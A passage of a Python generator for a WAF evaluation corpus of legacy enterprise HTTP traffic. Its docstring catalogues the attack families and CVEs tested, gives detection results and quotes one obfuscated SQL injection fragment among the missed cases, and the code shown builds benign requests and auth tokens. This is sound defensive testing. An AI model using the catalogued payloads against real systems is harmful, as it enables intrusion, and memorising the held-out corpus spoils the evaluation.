#!/usr/bin/env python3
"""Held-out HTTP test corpus: legacy enterprise web stacks still in production
("legacy" set).

What it is
    A deterministic generator of realistic HTTP requests against the old
    application estate that many organisations still run behind a WAF:
    ASP.NET WebForms (full postbacks with multi-KB __VIEWSTATE /
    __EVENTVALIDATION blobs, split __VIEWSTATE1.., __EVENTTARGET such as
    ctl00$MainContent$GridView1 with __EVENTARGUMENT Page$2 / Sort$Name /
    Select$3, TreeView and Calendar arguments, UpdatePanel async postbacks,
    AjaxControlToolkit hidden fields, WebResource/ScriptResource/Telerik .axd
    URLs, .asmx SOAP and ASMX/PageMethod JSON, WCF .svc); classic ASP with
    ASPSESSIONIDxxxxxxxx cookies and JavaScript escape() %uXXXX values;
    JSF/PrimeFaces/RichFaces (javax.faces.ViewState, j_idt ids, partial/ajax);
    Struts 1/2 (.do/.action, nested OGNL-style property names, displaytag
    d-NNNN-p params); Spring MVC matrix parameters and Web Flow; ColdFusion
    (.cfm/.cfc?method=&returnformat=json, cfajaxproxy _cf_ params, CFID/CFTOKEN);
    Oracle APEX (f?p=100:1:session:::::), wwv_flow.accept, ORDS query filters,
    E-Business Suite OA Framework, Oracle Reports; SAP NetWeaver portal, WebGUI,
    Web Dynpro (SAPEVENTQUEUE), logon forms and MYSAPSSO2; IBM Domino
    (.nsf?OpenView&Start=), Perl CGI, JSP with ;jsessionid, Java Web Start JNLP
    and applet jars, SOAP with WS-Security; Crystal Reports / SSRS /
    BusinessObjects viewers; SharePoint (_layouts/15, _api with $filter,
    _vti_bin/Lists.asmx CAML); Dynamics CRM (Organization.svc, Web API,
    FetchXML); Citrix StoreFront; PeopleSoft (psp/psc paths and ICAction posts);
    mainframe terminal gateways (HATS); intranet HR/payroll forms; Windows-1252
    and ISO-8859-1 posts sent as exact bytes; NTLM / Negotiate (Kerberos)
    Authorization headers; IE11, IE compatibility-mode and legacy Edge agents.

    * benign       474 ordinary requests (expect "pass"), plus 50
                   "dev-content" requests (category "dev-content", still
                   "pass"): developers and admins posting VB.NET, C#, classic
                   ASP, Java/JSP, ColdFusion, PL/SQL, T-SQL, ABAP, Perl, JCL,
                   VBA/VB6, batch, shell and PowerShell snippets,
                   web.config/struts.xml/log4j/httpd fragments, XSLT and a
                   mail template to an internal wiki (MediaWiki, Confluence),
                   a WebForms helpdesk, a code-review tool and as ticket
                   attachments.  Counted apart.
                   Hard cases on purpose: 2-40 KB ViewState and
                   EventValidation blobs (plain ObjectStateFormatter, MAC'd,
                   encrypted, split over __VIEWSTATE1..n), ctl00$... names,
                   Sort$Name / Page$Next / Select$3, TreeView "sRoot\\Finance"
                   arguments, AjaxControlToolkit/Telerik combined-script
                   lists, APEX f?p= colon URLs, ORDS {"$eq":..} filters,
                   SharePoint $filter=Title eq 'O''Brien', FetchXML in a URL,
                   PeopleSoft ICAction posts and PS_DEVICEFEATURES cookies,
                   SAPEVENTQUEUE ~E00x strings, Domino ($Inbox) views, the
                   Struts 1 org.apache.struts.taglib.html.TOKEN field,
                   CFID/CFTOKEN in URLs, escape() %uXXXX values, Windows-1252
                   bytes, NTLM type 1/3 and Kerberos SPNEGO tokens, FedAuth
                   cookies holding base64 XML, a Telerik RadAsyncUpload.
    * attacks      290 requests (expect "detect") in these stacks' own
                   injection points: .NET deserialization ("generic":
                   ysoserial.net-shaped TypeConfuseDelegate,
                   TextFormattingRunProperties, WindowsIdentity,
                   ClaimsPrincipal, RolePrincipal, PSObject gadgets as
                   LosFormatter /wEy.. __VIEWSTATE in full, async and
                   multipart postbacks; CVE-2020-0688 Exchange ECP GET;
                   SharePoint ToolShell ExcelDataSet, CVE-2019-0604 Picker
                   hiddenSpanData, CVE-2020-1147 DataSet; Json.NET $type and
                   __type ObjectDataProvider; DNNPersonalization cookie;
                   Telerik RAU DLL upload and DialogHandler dp; .NET Remoting
                   BinaryFormatter and SoapFormatter; XAML ResourceDictionary;
                   SAP RECON CTCWebService user creation); Java ("java":
                   JSF javax.faces.ViewState gadgets CC1/5/6, CB1, Jdk7u21,
                   Spring1, ROME, URLDNS as rO0AB base64, H4sI gzip, base64url;
                   Struts2 S2-045 Content-Type, S2-046 filename, S2-057
                   namespace, S2-016 redirect:, S2-032 method:, S2-061,
                   S2-001, S2-052 XStream, Struts 1 class.classLoader;
                   Spring4Shell in body, query and class['module'] forms;
                   WebSphere SOAP JMXConnectorContext, JBoss
                   JMXInvokerServlet, WebLogic wls-wsat XMLDecoder and
                   CVE-2020-14882, Liferay JSONWS c3p0; ColdFusion WDDX
                   (CVE-2023-29300) and AMF; Log4Shell in UA/XFF/j_username;
                   Confluence OGNL; PrimeFaces pfdrid; Spring Cloud Function
                   SpEL header); SQLi in classic ASP (stacked xp_cmdshell,
                   %-stripping s%e%l%e%c%t, %u0027, HPP across duplicate
                   params, CAST(0x..) mass-injection, cookies), WebForms fields
                   and GridView Sort$ arguments, ASMX JSON/SOAP, OData
                   $filter/$orderby, ColdFusion, APEX/PL-SQL gateway/EBS,
                   Struts, JSP, PeopleSoft, SSRS/Crystal; XSS with IE-era
                   vectors (expression(), vbscript:, behavior:, XML data
                   islands, HTML+TIME, conditional comments, fullwidth and %u
                   brackets, UTF-7) in WebForms fields, SharePoint list items
                   (REST and Lists.asmx), Domino, ColdFusion, SAP, PeopleSoft,
                   Citrix CVE-2023-24488; LFI (Citrix CVE-2019-19781, ColdFusion
                   locale/l10n/_cfclient, IIS ..%255c, %c0%af, ::$DATA,
                   global.asa, App_Data, Tomcat ..;/, overlong %c0%ae, Mojarra
                   resource, Spring resources, EBS ieshostedsurvey, Oracle
                   Reports URLPARAMETER, SAP CTCWebService, Domino, awstats,
                   Crystal dynamicimage, SharePoint download.aspx); RFI incl.
                   UNC skins; RCE (Perl open() pipes, phf, awstats configdir,
                   Shellshock in five headers, IIS cmd.exe traversal, ping
                   tools with & | ^ %COMSPEC%, Citrix template fetch,
                   ColdFusion ckeditor/FCKeditor uploads, SAP metadatauploader
                   zip, EBS BneViewerXMLService uuencoded zip, BI Publisher
                   Xalan XSL, IIS 6 WebDAV CVE-2017-7269, JBoss/Tomcat
                   deploys, SSI exec); PHP (php-cgi -d and %AD soft hyphen,
                   wrappers, .php.jpg upload, PHPMailer -X, unserialize
                   cookie); SSRF (ProxyShell/ProxyLogon, EBS UiServlet,
                   SP.WebProxy to IMDS, report logo URLs, gopher/dict/file,
                   integer/hex/IPv6-mapped metadata IPs, WebSphere Portal
                   proxies, UNC); XXE (PeopleSoft IBRequest, ASMX, Lists.asmx
                   UNC DTD, CRM, SAP PI, BlazeDS, XInclude, UTF-16 bytes,
                   SVG upload, EBS getUiType, billion laughs); SSTI (JSF/JSP
                   EL, Spring Web Flow SpEL param name, CFML #..#, Jira
                   Velocity, Freemarker, Citrix Template Toolkit); LDAP
                   injection in directory searches and logins; CRLF in
                   redirects, %u000d, overlong UTF-8, mail headers; NoSQL
                   operators; protocol (CL.TE, TE.CL, obfuscated TE, double
                   CL, SAP ICMAD, MS15-034 Range, TRACK/DEBUG, Translate: f,
                   X-Original-URL, absolute-form target); scanners (Nikto,
                   w3af, Acunetix, WebInspect, Netsparker, Nessus, sqlmap,
                   DirBuster, Nmap NSE, OpenVAS, IIS tilde enumeration).

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-legacy.py attacks > rulesets/tests/data/legacy-attacks.jsonl
    python3 scripts/corpus-legacy.py benign  > rulesets/tests/data/legacy-benign.jsonl
    python3 scripts/corpus-legacy.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id": "legacy/<category|benign|dev-content>/<subgroup>-NNN",
     "set": "legacy", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
or, where the exact bytes matter (Windows-1252 / ISO-8859-1 multipart and
XML bodies, binary uploads, serialized Java objects, smuggling):
    {"id", "set", "category", "expect", "raw_b64"}
with the whole raw request (request line, headers with a correct
Content-Length unless a protocol attack says otherwise, body) base64-encoded.

Only the standard library is used; every generator draws from its own
random.Random seeded by its name, so output is byte-for-byte reproducible.
Every attack is unique by request line and body; benign requests are unique
byte for byte.  Content-Length is always correct except in
protocol/smuggling-*, which carry conflicting or oversized lengths on purpose.

First sight (2026-12-06, /work/bin/pr-s3 eval with its built-in rules,
paranoia 1, threshold 5)
------------------------------------------------------------------------
Run once after writing; nothing tuned, no request removed or relabelled.

Attacks detected: 271/290 = 93.4 %
    100 %: crlf 10/10, ldap 11/11, nosqli 5/5, php 9/9, protocol 12/12,
           rfi 9/9, ssti 9/9, xss 30/30, xxe 12/12
    sqli 39/40, java 33/34, ssrf 13/14, lfi 26/29, rce 25/29,
    generic 17/22, scanner 11/15
Benign flagged:       14/474 = 3.0 %
Dev-content flagged:  30/50  = 60 %

Missed (19):
    sqli/classic_asp-005         IIS %-stripping "%a%n%d 1=(s%e%l%e%c%t t%o%p 1 ...)"
                                 (only an invalid-encoding note, score 3)
    java/primefaces_el-001       PrimeFaces dynamiccontent pfdrid (encrypted EL)
    generic/sharepoint_deser-003 CVE-2020-1147 DataSet/ExpandedWrapper XML in
                                 __SUGGESTIONSCACHE__
    generic/telerik_rau-001      CVE-2019-18935 RAU upload of a mixed-mode DLL
    generic/telerik_rau-002      CVE-2017-9248 DialogHandler forged dp
    generic/remoting_deser-001   raw BinaryFormatter TypeConfuseDelegate to a .rem
    generic/sap_recon-001        SAP RECON CTCWebService user creation (base64 baData)
    lfi/iis-003, -004            ::$DATA source disclosure (plain and %3A%3A%24DATA)
    lfi/iis-005                  GET /global.asa
    rce/sap_upload-001           CVE-2025-31324 metadatauploader zip with a JSP
    rce/oracle_upload-001        CVE-2022-21587 uuencoded zip with a traversal entry
    rce/xslt-001                 BI Publisher template (base64 XSL with Xalan
                                 Runtime extension)
    rce/appserver-003            Tomcat manager PUT of a WAR (zip)
    ssrf/websphere_portal-002    /wps/PA_WCM_Authoring_UI/proxy/http/127.0.0.1:9060
    scanner/iis_tilde-001..004   IIS 8.3 short-name enumeration (*~1*, ~1.%2A, OPTIONS)

Ordinary benign flagged (14):
    struts-003, -008, -013, -018   java-110 on the Struts 1 field name
                                   org.apache.struts.taglib.html.TOKEN
    coldfusion-005, -012, -019     session-100 on CFID/CFTOKEN in the URL
                                   (ColdFusion addtoken URLs)
    oracle-005, -014               nosqli-110/-120 on ORDS ?q={"..":{"$eq":..}}
    sharepoint-010, -020, -030     rfi-111/-140 on NewForm.aspx?Source=https://...
    dynamics_crm-004, -009         rce-111 on the CRM WhoAmI request name

Dev-content flagged: 30 of 50.  Requests with a match per category: sqli 16
(T-SQL/PL-SQL/classic ASP/VB.NET/CFML queries, UNION ALL in a SQL*Plus
report), lfi 8 (review file paths, UNC and Windows paths), rce 4 (batch,
shell, appcmd, PowerShell), java 3, xss 2, php 1.
"""

import base64
import binascii
import gzip
import json
import random
import struct
import sys
import zlib
from urllib.parse import quote, quote_plus

SET = "legacy"
RECORDS = []
_COUNTERS = {}


# ---------------------------------------------------------------------------
# record helpers
# ---------------------------------------------------------------------------

def rng_for(name):
    """A generator-private RNG (string seeds are hashed with SHA-512: stable)."""
    return random.Random("legacy-corpus/" + name)


def _next_id(category, sub):
    key = (category, sub)
    _COUNTERS[key] = _COUNTERS.get(key, 0) + 1
    return "%s/%s/%s-%03d" % (SET, category, sub, _COUNTERS[key])


def _expect(category):
    return "pass" if category in ("benign", "dev-content") else "detect"


def add(category, sub, method, uri, headers, body=None):
    headers = [[h[0], h[1]] for h in headers]
    if body is not None and not any(h[0].lower() == "content-length" for h in headers):
        headers.append(["Content-Length", str(len(body.encode("utf-8")))])
    rec = {"id": _next_id(category, sub), "set": SET, "category": category,
           "expect": _expect(category), "method": method, "uri": uri,
           "version": "HTTP/1.1", "headers": headers}
    if body is not None:
        rec["body"] = body
    RECORDS.append(rec)
    return rec


def add_raw(category, sub, method, target, headers, body=b"", content_length=True):
    """Exact bytes: headers are latin-1 text, body is bytes."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    hs = [[h[0], h[1]] for h in headers]
    if content_length and (body or method in ("POST", "PUT")) and \
            not any(h[0].lower() == "content-length" for h in hs):
        hs.append(["Content-Length", str(len(body))])
    head = "%s %s HTTP/1.1\r\n" % (method, target)
    head += "".join("%s: %s\r\n" % (k, v) for k, v in hs)
    head += "\r\n"
    raw = head.encode("latin-1") + body
    rec = {"id": _next_id(category, sub), "set": SET, "category": category,
           "expect": _expect(category),
           "raw_b64": base64.b64encode(raw).decode("ascii")}
    RECORDS.append(rec)
    return rec


def add_rawbytes(category, sub, raw):
    rec = {"id": _next_id(category, sub), "set": SET, "category": category,
           "expect": _expect(category),
           "raw_b64": base64.b64encode(raw).decode("ascii")}
    RECORDS.append(rec)
    return rec


# ---------------------------------------------------------------------------
# encoding helpers
# ---------------------------------------------------------------------------

def qp(s):
    """application/x-www-form-urlencoded component, as browsers send it."""
    return quote_plus(s, safe="*")


def form(pairs):
    return "&".join(qp(k) + "=" + qp(v) for k, v in pairs)


def pq(s, safe="/"):
    """percent-encode a path or query component (%20 for spaces)."""
    return quote(s, safe=safe)


def qs(pairs, safe=""):
    return "&".join(quote(k, safe=safe) + "=" + quote(v, safe=safe) for k, v in pairs)


def js_escape(s):
    """JavaScript escape(): %XX for latin-1, %uXXXX above, as legacy AJAX code sends."""
    out = []
    for ch in s:
        o = ord(ch)
        if ch.isascii() and (ch.isalnum() or ch in "@*_+-./"):
            out.append(ch)
        elif o < 256:
            out.append("%%%02X" % o)
        else:
            out.append("%%u%04X" % o)
    return "".join(out)


def form1252(pairs):
    """urlencoded form from a windows-1252 page (accents become %E9 etc.)."""
    return "&".join(quote_plus(k.encode("cp1252"), safe="*") + "=" +
                    quote_plus(v.encode("cp1252"), safe="*") for k, v in pairs)


def b64(b):
    return base64.b64encode(b).decode("ascii")


def b64url_token(b):
    """HttpServerUtility.UrlTokenEncode: base64url without '=' plus a pad-count digit."""
    s = base64.urlsafe_b64encode(b).decode("ascii")
    pad = s.count("=")
    return s.rstrip("=") + str(pad)


def rbytes(r, n):
    return bytes(r.getrandbits(8) for _ in range(n))


def rhex(r, n, upper=False):
    s = "".join(r.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s


def ralnum(r, n, alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
    return "".join(r.choice(alphabet) for _ in range(n))


def guid(r, braces=False, upper=False):
    h = rhex(r, 32, upper)
    g = "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])
    return "{" + g + "}" if braces else g


def multipart(parts, boundary):
    """parts: (name, value, filename, content_type); value str or bytes."""
    out = b""
    for name, value, filename, ctype in parts:
        out += b"--" + boundary.encode() + b"\r\n"
        cd = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            cd += '; filename="%s"' % filename
        out += cd.encode("latin-1") + b"\r\n"
        if ctype:
            out += ("Content-Type: %s\r\n" % ctype).encode("latin-1")
        out += b"\r\n"
        out += value if isinstance(value, bytes) else value.encode("utf-8")
        out += b"\r\n"
    out += b"--" + boundary.encode() + b"--\r\n"
    return out


def ie_boundary(r):
    return "---------------------------7e" + rhex(r, 11)


def webkit_boundary(r):
    return "----WebKitFormBoundary" + ralnum(
        r, 16, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")


# ---------------------------------------------------------------------------
# clients
# ---------------------------------------------------------------------------

IE11 = [
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; SLCC2; .NET CLR 2.0.50727; "
    ".NET CLR 3.5.30729; .NET CLR 3.0.30729; Media Center PC 6.0; .NET4.0C; "
    ".NET4.0E; InfoPath.3; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E; "
    ".NET CLR 2.0.50727; .NET CLR 3.0.30729; .NET CLR 3.5.30729; rv:11.0) like Gecko",
    "Mozilla/5.0 (Windows NT 6.3; WOW64; Trident/7.0; Touch; rv:11.0) like Gecko",
]
IE_COMPAT = [
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; "
    ".NET4.0C; .NET4.0E; .NET CLR 2.0.50727; .NET CLR 3.0.30729; .NET CLR 3.5.30729)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; "
    ".NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET CLR 3.0.30729; InfoPath.2)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; WOW64; Trident/6.0)",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; WOW64; Trident/7.0; SLCC2; "
    ".NET CLR 2.0.50727; Microsoft Outlook 16.0.4266; ms-office; MSOffice 16)",
]
EDGE_LEGACY = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/70.0.3538.102 Safari/537.36 Edge/18.18363",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/64.0.3282.140 Safari/537.36 Edge/17.17134",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/58.0.3029.110 Safari/537.36 Edge/16.16299",
]
OTHER_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/109.0.0.0 Safari/537.36 Edg/109.0.1518.78",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:102.0) Gecko/20100101 Firefox/102.0",
    "Mozilla/5.0 (Windows NT 5.1; rv:52.0) Gecko/20100101 Firefox/52.0",
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/49.0.2623.112 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/118.0.0.0 Safari/537.36",
]
ALL_BROWSERS = IE11 * 3 + IE_COMPAT + EDGE_LEGACY * 2 + OTHER_BROWSERS

DOTNET_SOAP_UA = "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)"
SOAP_CLIENTS = [
    DOTNET_SOAP_UA,
    "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 2.0.50727.8806)",
    "Axis/1.4",
    "Apache CXF 2.7.18",
    "Apache-HttpClient/4.5.2 (Java/1.8.0_151)",
    "gSOAP/2.8",
    "Java/1.7.0_80",
    "SAP NetWeaver Application Server (1.0;753)",
    "IBM WebServices/1.0",
]
ATTACK_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "python-requests/2.28.1",
    "curl/7.68.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/16.1 Safari/605.1.15",
]

ACCEPT_IE = "text/html, application/xhtml+xml, image/jxr, */*"
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
LANGS = ["en-US", "en-GB,en;q=0.5", "de-DE", "de-CH,de;q=0.8,en;q=0.5", "fr-FR",
         "nl-NL,nl;q=0.8,en-US;q=0.5,en;q=0.3", "es-ES,es;q=0.8", "en-US,en;q=0.9"]

INTRA_HOSTS = ["intranet.corp.local", "hr.contoso.local", "apps.northwind.local",
               "erp.fabrikam.internal", "portal.example-corp.com", "www.example.org",
               "ops.adventure-works.local", "payroll.corp.local"]


def browser(r, host, ua=None, accept=None, referer=None, cookie=None, ctype=None,
            xhr=False, extra=()):
    ua = ua or r.choice(ALL_BROWSERS)
    h = [["Host", host], ["User-Agent", ua]]
    if accept is None:
        accept = ACCEPT_IE if "Trident" in ua else ACCEPT_HTML
    h.append(["Accept", accept])
    h.append(["Accept-Language", r.choice(LANGS)])
    h.append(["Accept-Encoding", "gzip, deflate"])
    if referer:
        h.append(["Referer", referer])
    if xhr:
        h.append(["X-Requested-With", "XMLHttpRequest"])
    if ctype:
        h.append(["Content-Type", ctype])
    for e in extra:
        h.append(list(e))
    if cookie:
        h.append(["Cookie", cookie])
    h.append(["Connection", "Keep-Alive" if "Trident" in ua else "keep-alive"])
    return h


def attacker(r, host, ctype=None, cookie=None, ua=None, extra=(), accept="*/*"):
    h = [["Host", host], ["User-Agent", ua or r.choice(ATTACK_UAS)], ["Accept", accept]]
    if ctype:
        h.append(["Content-Type", ctype])
    for e in extra:
        h.append(list(e))
    if cookie:
        h.append(["Cookie", cookie])
    return h


# ---------------------------------------------------------------------------
# session cookies and auth tokens
# ---------------------------------------------------------------------------

def aspnet_session(r):
    return "ASP.NET_SessionId=" + ralnum(r, 24, "abcdefghijklmnopqrstuvwxyz012345")


def aspxauth(r):
    return ".ASPXAUTH=" + rhex(r, r.choice([224, 288, 352, 416]), upper=True)


def asp_session(r):
    return "ASPSESSIONID%s=%s" % (ralnum(r, 8, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"),
                                  ralnum(r, 24, "ABCDEFGHIJKLMNOPQRSTUVWXYZ"))


def jsessionid(r, websphere=False):
    if websphere:
        return "0000" + ralnum(r, 23, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-") \
            + ":" + r.choice(["-1", "1a2b3c4d5", "18d3ufg7q"])
    return rhex(r, 32, upper=True) + r.choice(["", ".node1", ".worker2", ".jvm01"])


def cf_cookies(r):
    return "CFID=%d; CFTOKEN=%s" % (r.randint(10000, 9999999), r.choice(
        [str(r.randint(10000000, 99999999)),
         "%s-%s" % (rhex(r, 16), guid(r, upper=True))]))


def ltpa(r, n=2):
    name = "LtpaToken2" if n == 2 else "LtpaToken"
    return name + "=" + b64(rbytes(r, r.choice([228, 300, 420])))


def fedauth(r):
    inner = ('<?xml version="1.0" encoding="utf-8"?><SP>V3,0#.w|corp\\%s,0#.w|corp\\%s,'
             '%d,False,False,%s,%s,%d,%s</SP>' % (
                 r.choice(["jsmith", "mmueller", "aobrien"]), r.choice(["jsmith", "svc_sp"]),
                 r.randint(131000000000000000, 133999999999999999), guid(r), guid(r),
                 r.randint(1, 9), b64(rbytes(r, 48))))
    return "FedAuth=77u/" + b64(inner.encode()) + "; rtFa=" + b64(rbytes(r, 120)).rstrip("=")


def ps_token(r):
    body = b"\xa8\x00\x00\x00\x04\x03\x02\x01\x01\x00\x00\x00\xbc\x02\x00\x00\x00\x00\x00\x00,\x00\x00\x00\x04\x00Shdr" + rbytes(r, 180)
    return "PS_TOKEN=" + b64(body)


PS_DEVICE = ("PS_DEVICEFEATURES=width:1920 height:1080 pixelratio:1 touch:0 geolocation:1 "
             "websockets:1 webworkers:1 datepicker:1 dtpicker:1 timepicker:1 dnd:1 "
             "sessionstorage:1 localstorage:1 history:1 canvas:1 svg:1 postmessage:1 hc:0 maf:0")


def mysapsso2(r):
    return "MYSAPSSO2=" + quote(b64(b"\x02\x011\x00" + rbytes(r, 240)), safe="")


def ntlm_type1():
    # the classic negotiate message many Windows clients send
    return "TlRMTVNTUAABAAAAB4IIogAAAAAAAAAAAAAAAAAAAAAKAGFKAAAADw=="


def ntlm_type3(r, domain, user, host):
    d = domain.encode("utf-16-le")
    u = user.encode("utf-16-le")
    w = host.encode("utf-16-le")
    lm = b"\x00" * 24
    blob = b"\x01\x01\x00\x00\x00\x00\x00\x00" + rbytes(r, 8) + rbytes(r, 8) + b"\x00" * 4
    blob += b"\x02\x00" + struct.pack("<H", len(d)) + d
    blob += b"\x01\x00" + struct.pack("<H", len(w)) + w
    blob += b"\x07\x00\x08\x00" + rbytes(r, 8) + b"\x00" * 8
    nt = rbytes(r, 16) + blob
    skey = rbytes(r, 16)
    off = 88
    fields = []
    payload = b""
    for item in (lm, nt, d, u, w, skey):
        fields.append((len(item), off + len(payload)))
        payload += item
    hdr = b"NTLMSSP\x00" + struct.pack("<I", 3)
    order = [0, 1, 2, 3, 4, 5]
    for i in order:
        ln, of = fields[i]
        hdr += struct.pack("<HHI", ln, ln, of)
    hdr += struct.pack("<I", 0xE2888215) + b"\x0a\x00\x61\x4a\x00\x00\x00\x0f" + rbytes(r, 16)
    return b64(hdr + payload)


def kerberos_negotiate(r, size=None):
    size = size or r.randint(1400, 4200)
    inner = b"\x06\x06\x2b\x06\x01\x05\x05\x02\xa0\x82" + struct.pack(">H", size) + \
        b"\x30\x82" + struct.pack(">H", size - 4) + b"\xa0\x30\x30\x2e\x06\x09\x2a\x86\x48\x82\xf7\x12\x01\x02\x02" + \
        rbytes(r, size - 25)
    return b64(b"\x60\x82" + struct.pack(">H", len(inner)) + inner)


# ---------------------------------------------------------------------------
# ASP.NET state blobs
# ---------------------------------------------------------------------------

VS_STRINGS = ["Text", "Visible", "_!ItemCount", "_!DataSourceItemCount", "DataKeys",
              "PageIndex", "PageCount", "SortExpression", "SortDirection", "CssClass",
              "Enabled", "Checked", "SelectedValue", "NavigateUrl", "ToolTip",
              "Accounts Payable", "Human Resources", "Facilities", "Open", "Closed",
              "Pending approval", "EMEA", "North America", "Q3 2019", "Draft"]


def _lenpref(b):
    out = b""
    n = len(b)
    while True:
        c = n & 0x7F
        n >>= 7
        if n:
            out += bytes([c | 0x80])
        else:
            out += bytes([c])
            return out + b


def viewstate(r, size, kind="plain"):
    """An ObjectStateFormatter-shaped __VIEWSTATE (plain+MAC) or an encrypted one."""
    if kind == "encrypted":
        n = (size * 3 // 4) // 16 * 16 + r.choice([20, 32])
        return b64(rbytes(r, n))
    out = b"\xff\x01\x0f\x0f\x05\x0a-" + str(r.randint(100000000, 2147483647)).encode()[:9]
    out += b"\x0f\x16\x02\x66\x0f\x64\x16\x02"
    target = size * 3 // 4 - 20
    while len(out) < target:
        k = r.random()
        if k < 0.35:
            out += b"\x05" + _lenpref(r.choice(VS_STRINGS).encode())
        elif k < 0.55:
            out += b"\x02" + bytes([r.randint(1, 40)]) + b"\x0f\x64\x16"
        elif k < 0.7:
            out += b"\x1e" + _lenpref(r.choice(VS_STRINGS).encode())
        else:
            out += rbytes(r, r.randint(4, 40))
    out += b"\x64\x64" + rbytes(r, 20)
    return b64(out)


def eventvalidation(r, n=None, new=True):
    n = n or r.randint(8, 120)
    out = (b"\xff\x01\x1d\x00" if new else b"\xff\x01\x16") + bytes([min(n, 127)])
    for _ in range(n):
        out += b"\x02" + rbytes(r, 4) + bytes([r.randint(1, 15)])
    if new:
        out += rbytes(r, 20)
    return b64(out)


def vsgen(r):
    return rhex(r, 8, upper=True)


# ---------------------------------------------------------------------------
# shared benign vocabulary
# ---------------------------------------------------------------------------

PEOPLE = ["O'Brien", "D'Souza", "Müller", "José García", "François Lefèvre",
          "Zoë Åkesson", "Ó Súilleabháin", "Smith-Jones", "van der Berg",
          "Björn Ståhl", "Renée Côté", "Nuñez", "O'Connor-Walsh", "Dvořák",
          "Jean-Luc Ménard", "Søren Kierkegård", "Patel", "Kowalski", "MacDonald"]
ASCII_PEOPLE = ["O'Brien", "D'Souza", "Smith-Jones", "van der Berg", "Patel",
                "Kowalski", "MacDonald", "O'Connor-Walsh", "Nguyen", "Johnson"]
DEPTS = ["R&D", "Sales & Marketing", "Accounts Payable", "HR - Benefits",
         "IT / Service Desk", "Facilities (North)", "Legal", "Finance", "Payroll",
         "Procurement", "Customer Service", "Logistics & Warehouse"]
NOTES = [
    "Please approve before Friday - thanks!",
    "50% deposit paid, remainder on delivery",
    "Called customer; will re-send invoice #4471 tomorrow",
    "Working from home p.m. (back-to-back calls 9-12)",
    "See attached (v2). Totals: 1,234.50 EUR",
    "Per Mike's e-mail: use cost centre 4410/200",
    "Sick leave - doctor's note to follow",
    "N/A",
    "Moved to Q4 (budget freeze)",
    "Customer asked \"where is my order?\" again",
    "1/2 day - dentist",
    "Approved by J. O'Neill <j.oneill@corp.local>",
    "Parking permit for bay 12 & 13, plate AB-123-CD",
    "Laptop screen cracked :( ticket INC0012345",
    "Overtime: 3.5h on 12/03 + 2h on 14/03",
    "Training: 'Excel for Finance' (Level 2)",
    "Please update my address - moved to 14 Church St., Apt #3",
    "Mileage 142 km @ 0.30/km = 42.60",
    "Budget line 6100-01 * 12 months",
    "Cc: Payroll; no changes needed for March",
]
DATES = ["01/03/2019", "15/11/2018", "2019-06-30", "03/31/2020", "12.05.2017",
         "2021-01-04", "07/07/2016", "28/02/2022"]


def pick(r, seq):
    return r.choice(seq)


# ---------------------------------------------------------------------------
# BENIGN: ASP.NET WebForms
# ---------------------------------------------------------------------------

WF_PAGES = [
    ("/HR/EmployeeList.aspx", "ctl00$MainContent", "GridView1",
     ["LastName", "FirstName", "HireDate", "Department"]),
    ("/Admin/Users.aspx", "ctl00$ContentPlaceHolder1", "gvUsers",
     ["UserName", "Email", "LastLogin", "IsLockedOut"]),
    ("/Purchasing/OrderSearch.aspx", "ctl00$MainContent", "gvOrders",
     ["OrderDate", "Supplier", "Total", "Status"]),
